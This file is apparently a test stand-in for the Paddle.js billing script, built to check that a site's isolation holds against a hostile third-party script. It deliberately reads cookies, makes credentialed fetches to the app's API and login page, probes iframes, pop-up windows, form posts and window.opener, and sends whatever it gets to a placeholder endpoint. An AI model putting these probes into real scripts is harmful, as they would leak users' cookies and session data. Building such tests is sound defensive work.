// A Paddle.js for one machine: the calls, events and frame of Paddle.js v2, and what a script that
// means harm would try from where it runs. What it got is told to the stand-in, for tests.
(() => {
  "use strict";
  const API = "__API__";
  const FRAME = "__FRAME__";
  const APP = "__APP__" || location.origin;
  const WAIT = 1500;
  const state = { environment: "production", token: null, callback: null, settings: {}, overlay: null, frame: null };

  function report(what, got) {
    fetch(`${API}/attempts`, { method: "POST", mode: "no-cors", body: JSON.stringify({ what, got, from: location.origin }) }).catch(() => {});
  }

  async function attempt(what, deed) {
    try {
      report(what, (await deed()) || null);
    } catch (_error) {
      report(what, null);
    }
  }

  const pause = () => new Promise((done) => setTimeout(done, WAIT));

  function tryWhatMustFail() {
    attempt("fetch api", async () => (await (await fetch(`${APP}/api/v1/me`, { credentials: "include" })).text()).slice(0, 200));
    attempt("fetch page", async () => (await (await fetch(`${APP}/login`, { credentials: "include" })).text()).slice(0, 200));
    attempt("iframe", async () => {
      const frame = document.createElement("iframe");
      frame.src = `${APP}/login`;
      frame.hidden = true;
      document.body.append(frame);
      await pause();
      const text = frame.contentDocument && frame.contentDocument.URL !== "about:blank" ? frame.contentDocument.title : null;
      frame.remove();
      return text;
    });
    attempt("window", async () => {
      const opened = window.open(`${APP}/login`, "_blank", "width=300,height=300");
      if (!opened) return null;
      await pause();
      try {
        return opened.document.URL === "about:blank" ? null : opened.document.title;
      } finally {
        opened.close();
      }
    });
    attempt("form", async () => {
      let refused = false;
      const note = (event) => {
        refused = refused || event.effectiveDirective === "form-action";
      };
      document.addEventListener("securitypolicyviolation", note);
      const form = document.createElement("form");
      form.method = "post";
      form.action = `${APP}/login`;
      const nowhere = document.createElement("iframe");
      nowhere.name = form.target = "paddle-nowhere";
      nowhere.hidden = true;
      document.body.append(nowhere, form);
      form.submit();
      await pause();
      form.remove();
      nowhere.remove();
      return refused ? null : "sent";
    });
    attempt("service worker", async () => (await navigator.serviceWorker.register("/sw.js")).scope);
    attempt("cookies", async () => document.cookie);
    attempt("opener", async () => window.opener?.document.title);
  }

  function loadRetain(token) {
    // Paddle.js does so on live tokens, unless somebody says that it is there already.
    if (!token.startsWith("live_") || window.profitwell?.isLoaded) return;
    const script = document.createElement("script");
    script.src = `${FRAME}/profitwell.js?auth=${encodeURIComponent(token)}`;
    document.head.append(script);
  }

  function tell(name, data) {
    state.callback?.({ name, data });
  }

  function close() {
    state.overlay?.remove();
    state.overlay = null;
    state.frame = null;
  }

  addEventListener("message", (event) => {
    if (event.origin !== FRAME || event.source !== state.frame?.contentWindow) return;
    const { name, data } = event.data;
    tell(name, data);
    if (name === "checkout.completed" && state.settings.successUrl) location.assign(state.settings.successUrl);
    if (name === "checkout.closed") close();
  });

  function open(options) {
    if (!state.token) throw new Error("[PADDLE BILLING] You must call Paddle.Initialize() first.");
    const settings = { displayMode: "overlay", theme: "light", locale: "en", ...state.settings, ...options.settings };
    state.settings = settings;
    close();
    if (!options.transactionId) {
      tell("checkout.error", { error: { code: "validation", detail: "transactionId is required here" } });
      return;
    }
    const query = new URLSearchParams({ theme: settings.theme, locale: settings.locale, origin: location.origin, token: state.token });
    const frame = document.createElement("iframe");
    frame.src = `${FRAME}/checkout/${encodeURIComponent(options.transactionId)}?${query}`;
    frame.title = "Checkout";
    frame.allow = "payment";
    frame.className = "paddle-frame";
    if (settings.displayMode === "inline") {
      frame.setAttribute("style", settings.frameStyle || "width: 100%; min-width: 312px; border: 0;");
      frame.height = settings.frameInitialHeight || 450;
      document.querySelector(`.${settings.frameTarget}`)?.append(frame);
      state.overlay = frame;
    } else {
      const overlay = document.createElement("div");
      overlay.setAttribute("style", "position: fixed; inset: 0; z-index: 2147483647; background: rgb(0 0 0 / 50%);");
      frame.setAttribute("style", "width: 100%; height: 100%; border: 0;");
      overlay.append(frame);
      document.body.append(overlay);
      state.overlay = overlay;
    }
    state.frame = frame;
  }

  window.Paddle = {
    Initialized: false,
    Status: { libraryVersion: "stand-in" },
    Environment: {
      set(name) {
        state.environment = name;
      },
      get: () => state.environment,
    },
    Initialize(options) {
      if (window.Paddle.Initialized) throw new Error("[PADDLE BILLING] Initialize() may be called once per page.");
      const kind = state.environment === "sandbox" ? "test_" : "live_";
      if (!options?.token?.startsWith(kind)) throw new Error(`[PADDLE BILLING] a token of this environment starts with ${kind}`);
      state.token = options.token;
      state.callback = options.eventCallback || null;
      state.settings = options.checkout?.settings || {};
      window.Paddle.Initialized = true;
      loadRetain(options.token);
      tryWhatMustFail();
    },
    Update(options) {
      if (options?.eventCallback) state.callback = options.eventCallback;
      if (options?.checkout?.settings) state.settings = { ...state.settings, ...options.checkout.settings };
    },
    Checkout: { open, close },
  };
})();
